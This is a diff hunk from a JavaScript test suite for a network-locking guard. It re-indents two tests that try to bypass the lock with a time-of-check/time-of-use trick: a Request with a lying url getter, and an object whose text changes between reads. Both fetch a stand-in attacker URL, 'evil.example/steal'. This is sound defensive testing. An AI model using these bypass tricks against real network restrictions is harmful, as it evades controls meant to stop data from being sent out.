@@ -270,28 +270,28 @@ describe("lockNetwork: requests that say one address and fetch another", () => {
   // Holes found here and closed: the lock read the address once and the real fetch read it again
   // (it checked `input.url` or `String(input)`, then fetched `input` itself).
   test("a Request whose url getter lies about its address is refused", async () => {
-      class Lying extends Request {
-        get url() {
-          return "https://fg.example/site/ok.js";
-        }
+    class Lying extends Request {
+      get url() {
+        return "https://fg.example/site/ok.js";
       }
-      await globalThis.self.fetch(new Lying("https://evil.example/steal")).catch(() => {});
-      assert.deepEqual(
-        fetched.map((f) => f.url),
-        [],
-      );
+    }
+    await globalThis.self.fetch(new Lying("https://evil.example/steal")).catch(() => {});
+    assert.deepEqual(
+      fetched.map((f) => f.url),
+      [],
+    );
   });
 
   test("an object whose text changes between two readings is refused", async () => {
-      let reads = 0;
-      const shifty = {
-        toString: () => (reads++ === 0 ? "https://fg.example/site/ok.js" : "https://evil.example/steal"),
-      };
-      await globalThis.self.fetch(shifty).catch(() => {});
-      assert.ok(
-        fetched.every((f) => new URL(f.url).origin === SITE.origin),
-        fetched.map((f) => f.url).join(),
-      );
+    let reads = 0;
+    const shifty = {
+      toString: () => (reads++ === 0 ? "https://fg.example/site/ok.js" : "https://evil.example/steal"),
+    };
+    await globalThis.self.fetch(shifty).catch(() => {});
+    assert.ok(
+      fetched.every((f) => new URL(f.url).origin === SITE.origin),
+      fetched.map((f) => f.url).join(),
+    );
   });
 
   test("a URL object is read once and fetched as it reads", async () => {
